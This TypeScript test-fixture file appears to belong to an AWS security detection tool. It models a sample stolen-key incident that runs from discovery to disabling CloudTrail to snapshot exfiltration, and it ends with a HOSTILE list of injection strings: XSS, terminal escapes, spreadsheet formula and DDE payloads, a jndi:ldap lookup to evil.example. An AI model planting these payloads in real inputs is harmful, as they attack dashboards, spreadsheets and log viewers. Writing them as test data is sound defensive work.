import type { Finding, Incident, Path, SignalSummary, Stage } from '#core/model/finding.ts'
import { hashOf } from '#core/model/hash.ts'
import type { Resource } from '#core/model/resource.ts'
import type { Severity } from '#core/model/severity.ts'
import type { Counts } from '#core/text/counts.ts'

const DEV = '111122223333'
const PROD = '444455556666'
const REGION = 'eu-west-1'
const USER = `user:arn:aws:iam::${DEV}:user/build-bot`
const FIRST = 'key:ASIA1111222233334444'
const SECOND = 'key:ASIA5555666677778888'
const DAY = '2026-05-12T'

const at = (clock: string): string => `${DAY}${clock}.000Z`
const eventId = (detection: string, index: number): string => {
  const hex = hashOf('event', detection, index) + hashOf('more', detection, index)
  return `${hex.slice(0, 8)}-${hex.slice(8, 12)}-4${hex.slice(13, 16)}-8${hex.slice(17, 20)}-${hex.slice(20, 32)}`
}

type Reported = readonly [
  clock: string,
  node: string,
  account: string,
  tactic: string,
  severity: Severity,
  detection: string,
  title: string,
  summary: string,
  count: number,
]

/** A key of a build user leaks; the intruder looks around, enters production, stays, blinds the trail and takes data. */
const TOLD: readonly Reported[] = [
  // biome-ignore format: one signal a line reads as the table that it is
  ...([
    ['09:12:04', USER, DEV, 'Discovery', 'low', 'sts-caller-identity', 'Caller asked who it is', 'build-bot asked who it is, first from 198.51.100.23', 1],
    ['09:12:41', USER, DEV, 'Discovery', 'medium', 'iam-enumeration', 'Identities and permissions were listed', 'build-bot listed users, roles and policies: 34 calls in 4 minutes', 34],
    ['09:19:02', USER, DEV, 'Discovery', 'low', 'first-use-of-service', 'First use of a service', 'build-bot used Organizations for the first time', 3],
    ['09:26:15', USER, DEV, 'Credential Access', 'medium', 'secrets-listed', 'Secrets were listed', 'build-bot listed every secret of the account', 2],
    ['09:41:30', USER, PROD, 'Lateral Movement', 'high', 'role-assumed-across-accounts', 'Role of another account assumed', 'build-bot assumed OrganizationAccountAccessRole in 444455556666', 1],
    ['09:44:10', FIRST, PROD, 'Discovery', 'low', 'first-region', 'First use of a Region', 'OrganizationAccountAccessRole was first used in ap-southeast-2', 2],
    ['09:52:44', FIRST, PROD, 'Persistence', 'high', 'iam-access-key-created', 'Access key created for another user', 'OrganizationAccountAccessRole made an access key for svc-backup', 1],
    ['09:53:20', FIRST, PROD, 'Privilege Escalation', 'critical', 'iam-admin-policy-attached', 'AdministratorAccess attached', 'OrganizationAccountAccessRole attached AdministratorAccess to svc-backup', 1],
    ['10:05:00', SECOND, PROD, 'Defense Evasion', 'critical', 'cloudtrail-logging-stopped', 'CloudTrail trail stopped logging', 'data-pipeline/maintenance stopped logging of trail org-trail', 1],
    ['10:06:12', SECOND, PROD, 'Defense Evasion', 'high', 'guardduty-detector-deleted', 'GuardDuty detector deleted', 'data-pipeline/maintenance deleted the GuardDuty detector', 1],
    ['10:21:47', SECOND, PROD, 'Collection', 'medium', 's3-mass-read', 'Unusually many objects read', 'data-pipeline/maintenance read 1,912 objects of customer-exports', 1000],
    ['10:48:33', SECOND, PROD, 'Exfiltration', 'critical', 'rds-snapshot-shared', 'Database snapshot shared outside', 'data-pipeline/maintenance shared snapshot orders-2026-05 with 999988887777', 1],
  ] as const),
]

const signalOf = ([clock, node, account, tactic, severity, detection, title, summary, count]: Reported): SignalSummary => ({
  id: hashOf('finding', USER, detection),
  detection,
  title,
  severity,
  tactic,
  firstSeen: at(clock),
  lastSeen: at(clock),
  count,
  account,
  region: REGION,
  node,
  summary,
  events: Array.from({ length: Math.min(count, 8) }, (_, index) => eventId(detection, index)),
})

const stagesOf = (signals: readonly SignalSummary[]): Stage[] =>
  [...new Set(signals.map((signal) => signal.tactic))].map((tactic) => {
    const of = signals.filter((signal) => signal.tactic === tactic)
    return { tactic, firstSeen: of[0]?.firstSeen ?? '', signals: of.map((signal) => signal.id) }
  })

const resource = (arn: string, kind: string, account: string, more: Partial<Resource> = {}): Resource => ({
  arn,
  kind,
  account,
  region: REGION,
  role: 'Target',
  ...more,
})

const RESOURCES: readonly Resource[] = [
  resource(`arn:aws:iam::${PROD}:role/OrganizationAccountAccessRole`, 'AwsIamRole', PROD),
  resource(`arn:aws:iam::${PROD}:user/svc-backup`, 'AwsIamUser', PROD, { owner: 'platform', environment: 'production' }),
  resource(`arn:aws:iam::${PROD}:role/data-pipeline`, 'AwsIamRole', PROD, { deployedBy: 'terraform-deploy' }),
  resource(`arn:aws:cloudtrail:${REGION}:${PROD}:trail/org-trail`, 'AwsCloudTrailTrail', PROD),
  resource(`arn:aws:guardduty:${REGION}:${PROD}:detector/12abc34d567e8fa901bc2d34e56789f0`, 'AwsGuardDutyDetector', PROD),
  resource('arn:aws:s3:::customer-exports', 'AwsS3Bucket', PROD, { owner: 'data', environment: 'production' }),
  resource(`arn:aws:rds:${REGION}:${PROD}:snapshot:orders-2026-05`, 'AwsRdsDbSnapshot', PROD, {
    owner: 'orders',
    environment: 'production',
  }),
]

const samplePaths: readonly Path[] = [
  { from: USER, to: FIRST, via: 'AssumeRole', as: 'OrganizationAccountAccessRole/build' },
  { from: FIRST, to: SECOND, via: 'AssumeRole', as: 'data-pipeline/maintenance' },
]

const signals = TOLD.map(signalOf)

export const sampleIncident: Incident = {
  schema: 1,
  kind: 'incident',
  id: hashOf('incident', USER, DAY),
  detection: 'stolen-key-to-data-theft',
  title: 'A stolen key takes data from another account: user/build-bot',
  severity: 'critical',
  confidence: 95,
  state: 'active',
  revision: hashOf('revision', 1),
  techniques: ['T1078.004', 'T1087.004', 'T1098.001', 'T1526', 'T1530', 'T1537', 'T1562.008'],
  tactics: [...new Set(signals.map((signal) => signal.tactic))],
  actor: {
    kind: 'user',
    id: `arn:aws:iam::${DEV}:user/build-bot`,
    name: 'build-bot',
    account: DEV,
    sessions: [USER, FIRST, SECOND],
    addresses: ['198.51.100.23', '2001:db8:77::9'],
    userAgents: ['aws-cli/2.15.30 md/awscrt#0.19.19 ua/2.0 os/linux', 'Boto3/1.34.51'],
  },
  origin: { node: USER, kind: 'user', name: 'user/build-bot', account: DEV, chain: [USER, FIRST, SECOND] },
  account: DEV,
  region: REGION,
  resources: RESOURCES,
  firstSeen: at('09:12:04'),
  lastSeen: at('10:48:33'),
  count: 1000,
  countAtLeast: true,
  events: signals.flatMap((signal) => signal.events).slice(0, 100),
  why: [
    'A stolen key takes data from another account',
    ...[...signals]
      .sort((a, b) => Number(b.severity === 'critical') - Number(a.severity === 'critical'))
      .slice(0, 8)
      .map((signal) => signal.summary),
    'Risk 385: 12 different detections in 8 tactics.',
  ],
  summary: `user/build-bot went through 12 signals in accounts ${DEV}, ${PROD}.`,
  normal: ['build-bot has only called from 192.0.2.0/24 in 61 days, and only used CodeBuild, ECR and S3.'],
  compliance: [],
  response: ['deactivate-access-key', 'revoke-role-sessions', 'restart-trail', 'unshare-snapshot'],
  playbook: {
    detects: 'One origin that goes from looking around to taking data, in that order.',
    impact: 'Data has left the organization, and the way back in is still open.',
    falsePositives: ['A penetration test; a migration that shares snapshots on purpose.'],
    triage: "Ask the key's owner whether they called from 198.51.100.23. Look for what svc-backup has done since 09:53.",
    blindSpots: 'Reads of objects are seen only where the trail records data events.',
  },
  signals,
  stages: stagesOf(signals),
  score: 385,
  impact: [],
  stories: ['stolen-key-to-data-theft', 'trail-blinded'],
  accounts: [DEV, PROD],
  firstEvent: at('09:12:04'),
  paths: samplePaths,
}

/** A finding with everything that matters; what is given replaces it. */
export const finding = (more: Partial<Finding> = {}): Finding => ({
  schema: 1,
  kind: 'finding',
  id: hashOf('finding', more.detection ?? 'ingress', more.title ?? ''),
  detection: 'security-group-open-to-world',
  title: 'Administration port opened to the whole internet',
  severity: 'high',
  confidence: 80,
  state: 'active',
  revision: hashOf('revision', 2),
  techniques: ['T1562.007'],
  tactics: ['Defense Evasion'],
  actor: {
    kind: 'sso',
    id: `arn:aws:iam::${DEV}:role/aws-reserved/sso.amazonaws.com/AWSReservedSSO_Developer_0123456789abcdef/amira@example.com`,
    name: 'amira@example.com (Developer)',
    account: DEV,
    sessions: ['key:ASIA9999000011112222'],
    addresses: ['203.0.113.40'],
    userAgents: ['Mozilla/5.0 (X11; Linux x86_64)'],
  },
  origin: {
    node: 'person:amira@example.com',
    kind: 'person',
    name: 'amira@example.com',
    chain: ['person:amira@example.com', 'key:ASIA9999000011112222'],
  },
  account: DEV,
  region: REGION,
  resources: [resource(`arn:aws:ec2:${REGION}:${DEV}:security-group/sg-0a1b2c3d4e5f60718`, 'AwsEc2SecurityGroup', DEV, { owner: 'web' })],
  firstSeen: at('14:03:27'),
  lastSeen: at('14:03:27'),
  count: 1,
  events: ['5d0f2d2e-5f2c-4d0a-8b1a-0c9f6f7e1a2b'],
  why: ['amira@example.com opened port 22 of sg-0a1b2c3d4e5f60718 to 0.0.0.0/0'],
  summary: 'amira@example.com opened port 22 of sg-0a1b2c3d4e5f60718 to 0.0.0.0/0',
  compliance: [{ standard: 'CIS AWS Foundations', version: '3.0.0', control: '5.2' }],
  response: ['close-ingress'],
  playbook: {
    detects: 'A security-group rule that lets any address reach an administration port.',
    impact: 'Such ports are found by scanners within minutes.',
    falsePositives: ['A short test by a developer.'],
    triage: 'Is the group attached to a running instance? Who owns it?',
    blindSpots: 'A network ACL may still block it.',
  },
  ...more,
})

export const sampleFindings: readonly Finding[] = [
  finding(),
  finding({
    detection: 'root-console-login',
    title: 'Root user signed in',
    severity: 'medium',
    origin: { node: `root:${PROD}`, kind: 'root', name: `root of ${PROD}`, account: PROD, chain: [`root:${PROD}`] },
    account: PROD,
    summary: `The root user of ${PROD} signed in to the console with MFA`,
    why: ['The last sign-in was 212 days ago.'],
    compliance: [{ standard: 'CIS AWS Foundations', version: '3.0.0', control: '1.7' }],
    resources: [],
    response: [],
  }),
  ...['terraform-plan', 'terraform-apply', 'nightly'].map((name, index) =>
    finding({
      detection: 'iam-policy-changed',
      title: 'IAM policy changed',
      severity: 'low',
      id: hashOf('finding', 'iam-policy-changed', name),
      automation: 'terraform-deploy',
      origin: {
        node: `role:arn:aws:iam::${DEV}:role/terraform-deploy`,
        kind: 'role',
        name: 'role/terraform-deploy',
        account: DEV,
        chain: [],
      },
      compliance: [],
      count: 4 + index,
      summary: `terraform-deploy changed policy ${name}`,
      why: ['Known automation did it (terraform-deploy), so it is at most low.'],
      response: [],
      resources: [],
    }),
  ),
]

export const sampleCounts: Counts = {
  received: 20_412,
  normalized: 20_379,
  ignored: 31,
  rejected: 2,
  from: '2026-05-12T00:00:03.000Z',
  to: '2026-05-12T23:59:58.000Z',
}

/** What intruders can put into names, user agents and parameters. */
export const HOSTILE: readonly string[] = [
  '\u001b[2J\u001b[1;1Hall clear',
  '\u009b31mred',
  'a\r\nCRITICAL b\nc\td\u0000e\u0007',
  '\u202egnp.exe\u202c \u2066x\u2069 \u200b\ufeff',
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)> \' onmouseover=alert(1)',
  '</script><!--',
  '<!channel> <@U123> <https://evil.example|click> @here #general',
  '`*bold*` _it_ ~no~ :rotating_light: https://evil.example/x www.evil.example',
  '=HYPERLINK("http://evil.example","x")',
  "+1+cmd|'/C calc'!A0",
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '[click](javascript:alert(1)) ![i](https://evil.example/i.png)',
  '__proto__',
  '\ud800 lone \udfff',
  `${'e'}${'\u0301'.repeat(80)}`,
  '\u{e0041}\u{e0042} tags',
  '中文字符 \u{1f600}',
  '$\u007bjndi:ldap://evil.example/a} {{7*7}}',
]
